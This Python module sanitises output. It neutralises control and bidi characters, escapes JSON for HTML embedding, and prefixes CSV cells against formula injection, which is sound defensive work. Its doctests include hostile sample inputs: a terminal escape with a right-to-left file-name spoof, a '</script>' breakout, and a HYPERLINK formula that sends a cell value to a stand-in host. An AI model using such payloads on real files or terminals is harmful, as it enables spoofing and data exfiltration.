"""What data may put into output: values for people isolated, messages neutralised, JSON text escaped.

Ids, titles, model names, metadata, usage records and the messages that quote
them come from documents other systems send. Output must not let them act:

- A value shown in text for people (a terminal table, a text statement, a
  leaderboard, a ledger, a CSV cell) goes through :func:`isolated`: every
  control character (C0, DEL, C1: a terminal's escape sequences, bells, NUL,
  U+0085's line break), the line and paragraph separators U+2028 and U+2029
  (line breaks to some readers, the end of a paragraph to the bidirectional
  algorithm) and every lone surrogate (which no UTF-8 output can carry)
  become U+FFFD, the replacement character: visibly there, one column wide,
  doing nothing. A value holding right-to-left text or a bidi control
  (U+061C, U+200E, U+200F, U+202A to U+202E, U+2066 to U+2069) is then set
  in a first-strong isolate, U+2068 … U+2069, its own isolates balanced
  (:func:`balanced`): a right-to-left name keeps its marks and reads as its
  author wrote it, and no override in it can reorder what is printed around
  it (offer-v1, "Limits", 2026-12-05). HTML shows each such isolate as a
  ``<bdi dir="auto">`` element (:func:`html_text`).
- A message or a file name said on standard error goes through :func:`plain`,
  which replaces the bidi controls with U+FFFD too: a whole line cannot be
  isolated from itself. The figures babel formats (whose bidi marks some
  locales need) are not data and are left as they are.
- In JSON text, :func:`json_text` writes the same characters as ``\\uXXXX``
  escapes: the same JSON data, nothing a terminal acts on. With
  ``embeddable=True`` it also writes ``<``, ``>`` and ``&`` so, for a
  ``<script type="application/ld+json">`` element that ``</script>``,
  ``<!--`` or ``<script`` in a value cannot end or change.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any

__all__ = [
    "FIRST_STRONG_ISOLATE",
    "POP_DIRECTIONAL_ISOLATE",
    "REPLACEMENT",
    "balanced",
    "escape_json",
    "html_text",
    "isolated",
    "json_text",
    "neutralised",
    "plain",
    "unisolated",
    "unneutralised",
]

#: What :func:`plain` puts in place of a character that must not reach output.
REPLACEMENT = "\ufffd"

# C0 and C1 controls and DEL, the bidi controls, the line and paragraph separators, and surrogates.
_NEUTRALISED = "\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff"
_UNSAFE = re.compile(f"[{_NEUTRALISED}]")
# In JSON text: the same, less the C0 controls json.dumps already escapes; with the HTML-significant three.
_JSON_UNSAFE = re.compile("[\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
_EMBED_UNSAFE = re.compile(f"{_JSON_UNSAFE.pattern[:-1]}<>&]")


def plain(text: str) -> str:
    """Return *text* with every control, bidi control and lone surrogate replaced by U+FFFD.

    >>> plain("p75\\x1b[2J\\u202egnp.exe")
    'p75\\ufffd[2J\\ufffdgnp.exe'
    >>> plain("Staff Engineer, Zürich")
    'Staff Engineer, Zürich'
    """
    return _UNSAFE.sub(REPLACEMENT, text)


#: What :func:`isolated` puts around a value with right-to-left text or a bidi control, U+2068 … U+2069.
FIRST_STRONG_ISOLATE = "\u2068"
POP_DIRECTIONAL_ISOLATE = "\u2069"

# What a value in text output may not carry at all: C0, DEL, C1, the line and paragraph separators, surrogates.
_UNPRINTABLE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")
# The bidirectional classes that make a value isolated: right-to-left letters (RLM and ALM among them) and
# Arabic digits, and the explicit embeddings, overrides and isolates. LRM is class L: it is named on its own.
_ISOLATED_CLASSES = frozenset({"R", "AL", "AN", "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"})
_ISOLATE_INITIATORS = frozenset("\u2066\u2067\u2068")


def balanced(text: str) -> str:
    """Return *text* with its isolates balanced: an unmatched U+2069 becomes U+FFFD, an open one is closed.

    Inside an isolate the bidirectional algorithm (UAX #9, X6a) ends every
    embedding and override the isolate's closing U+2069 finds open, and a
    U+202C cannot close more than was opened in it, so only the isolates need
    balancing: a stray U+2069 would end the isolate around the value early,
    and an open U+2066 to U+2068 would take the closing one for its own.

    >>> balanced("\\u2069\\u202eevil"), balanced("\\u2067דנה")
    ('\ufffd\\u202eevil', '\\u2067דנה\\u2069')
    """
    if POP_DIRECTIONAL_ISOLATE not in text and not _ISOLATE_INITIATORS.intersection(text):
        return text
    kept: list[str] = []
    open_isolates = 0
    for char in text:
        if char in _ISOLATE_INITIATORS:
            open_isolates += 1
        elif char == POP_DIRECTIONAL_ISOLATE:
            if not open_isolates:
                kept.append(REPLACEMENT)
                continue
            open_isolates -= 1
        kept.append(char)
    return "".join(kept) + POP_DIRECTIONAL_ISOLATE * open_isolates


def isolated(text: str) -> str:
    """Return a value (an id, a title, a name) ready for a line of text: nothing in it acts, nothing reorders.

    Control characters, U+2028, U+2029 and lone surrogates become U+FFFD; a
    value with right-to-left text or a bidi control is set in a first-strong
    isolate, U+2068 … U+2069, its own isolates balanced (:func:`balanced`).
    Everything else, printable ASCII above all, is returned as it is.

    >>> isolated("Staff Engineer"), isolated("p75\\x9b31m\\u2028")
    ('Staff Engineer', 'p75\ufffd31m\ufffd')
    >>> isolated("\\u202eexe.png") == "\\u2068\\u202eexe.png\\u2069"
    True
    >>> isolated("\\u200fדנה כהן") == "\\u2068\\u200fדנה כהן\\u2069"
    True
    """
    if text.isascii() and text.isprintable():
        return text
    text = _UNPRINTABLE.sub(REPLACEMENT, text)
    if "\u200e" not in text and not any(unicodedata.bidirectional(char) in _ISOLATED_CLASSES for char in text):
        return text
    return FIRST_STRONG_ISOLATE + balanced(text) + POP_DIRECTIONAL_ISOLATE


def unisolated(text: str) -> str:
    """Return *text* without the one isolate :func:`isolated` put around all of it, if it has one.

    A CSV reads back what export-csv wrote: a cell set wholly in one
    first-strong isolate is the value inside it.

    >>> unisolated(isolated("\\u202bדנה\\u202c")) == "\\u202bדנה\\u202c", unisolated("\\u2068a\\u2069b\\u2068c\\u2069")
    (True, '\\u2068a\\u2069b\\u2068c\\u2069')
    """
    if not (text.startswith(FIRST_STRONG_ISOLATE) and text.endswith(POP_DIRECTIONAL_ISOLATE)):
        return text
    depth = 0
    for place, char in enumerate(text):
        if char in _ISOLATE_INITIATORS:
            depth += 1
        elif char == POP_DIRECTIONAL_ISOLATE:
            depth -= 1
            if depth == 0:
                return text[1:-1] if place == len(text) - 1 else text
    return text


_ISOLATE_OR_CLOSE = re.compile("[\u2066-\u2069]")


def html_text(text: str) -> str:
    """Return a line of text for an HTML page: escaped, each first-strong isolate a ``<bdi dir="auto">``.

    Values come isolated from :func:`isolated`; in a page the element is the
    isolate (HTML sets every element with ``dir`` apart), and the browser
    finds the value's direction from its first strong letter, as U+2068
    asks. A left-to-right or right-to-left isolate (U+2066, U+2067) inside a
    value is kept as it is; a U+2069 without its isolate becomes U+FFFD.

    >>> html_text("Offer \\u2068\\u202eexe.png\\u2069 & co")
    'Offer <bdi dir="auto">\\u202eexe.png</bdi> &amp; co'
    """
    escaped = html.escape(text)
    if not _ISOLATE_OR_CLOSE.search(escaped):
        return escaped
    parts: list[str] = []
    elements: list[bool] = []  # for each open isolate: is it an element?
    for char in escaped:
        if char == FIRST_STRONG_ISOLATE:
            elements.append(True)
            parts.append('<bdi dir="auto">')
        elif char in _ISOLATE_INITIATORS:
            elements.append(False)
            parts.append(char)
        elif char == POP_DIRECTIONAL_ISOLATE:
            parts.append(("</bdi>" if elements.pop() else char) if elements else REPLACEMENT)
        else:
            parts.append(char)
    parts += ["</bdi>" if element else POP_DIRECTIONAL_ISOLATE for element in reversed(elements)]
    return "".join(parts)


def _escaped(match: re.Match[str]) -> str:
    return f"\\u{ord(match.group()):04x}"


def json_text(
    value: Any, *, indent: int | None = None, embeddable: bool = False, default: Callable[[Any], Any] | None = None
) -> str:
    """Return *value* (parsed JSON data) as JSON text that carries no control, bidi or lone surrogate character.

    They are written as ``\\uXXXX`` escapes, which JSON reads back as the
    same characters. With *embeddable*, ``<``, ``>`` and ``&`` are too, so
    the text can go inside an HTML ``<script>`` element as it is. *default*
    is as ``json.dumps()`` takes it.

    >>> json_text({"title": "</script>\\u202e"}, embeddable=True)
    '{"title": "\\\\u003c/script\\\\u003e\\\\u202e"}'
    >>> json.loads(json_text({"title": "</script>\\u202e"}, embeddable=True))
    {'title': '</script>\\u202e'}
    """
    return escape_json(json.dumps(value, indent=indent, ensure_ascii=False, default=default), embeddable=embeddable)


def escape_json(text: str, *, embeddable: bool = False) -> str:
    """Return JSON *text* (control characters below U+0020 already escaped) as :func:`json_text` writes it.

    >>> escape_json('{"id":"p75\u202e"}')
    '{"id":"p75\\\\u202e"}'
    """
    if not embeddable and text.isascii() and "\x7f" not in text:
        return text  # the common case, checked at C speed: DEL is the one ASCII character to escape
    return (_EMBED_UNSAFE if embeddable else _JSON_UNSAFE).sub(_escaped, text)


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV Injection"); after any
# number of single quotes too, so that a quote added here can always be told from one that was there.
_FORMULA = re.compile("'*[=+\\-@\t\r]")
_QUOTED_FORMULA = re.compile("'+[=+\\-@\t\r]")


def neutralised(cell: str) -> str:
    """*cell* as a spreadsheet shows it and never runs it: a single quote before a leading ``=``, ``+``, ``-``,
    ``@``, tab or carriage return (as OWASP advises), and before one more quote than a cell that had them.

    :func:`unneutralised` gives back *cell* exactly.

    >>> neutralised('=HYPERLINK("http://x.example/"&A1,"click")')[:12], neutralised("'=1"), neutralised("Ada")
    ("'=HYPERLINK(", "''=1", 'Ada')
    """
    return "'" + cell if _FORMULA.match(cell) else cell


def unneutralised(cell: str) -> str:
    """*cell* as it was before :func:`neutralised`.

    >>> unneutralised("'@SUM(1+1)"), unneutralised("''=1"), unneutralised("'quoted")
    ('@SUM(1+1)', "'=1", "'quoted")
    """
    return cell[1:] if _QUOTED_FORMULA.match(cell) else cell
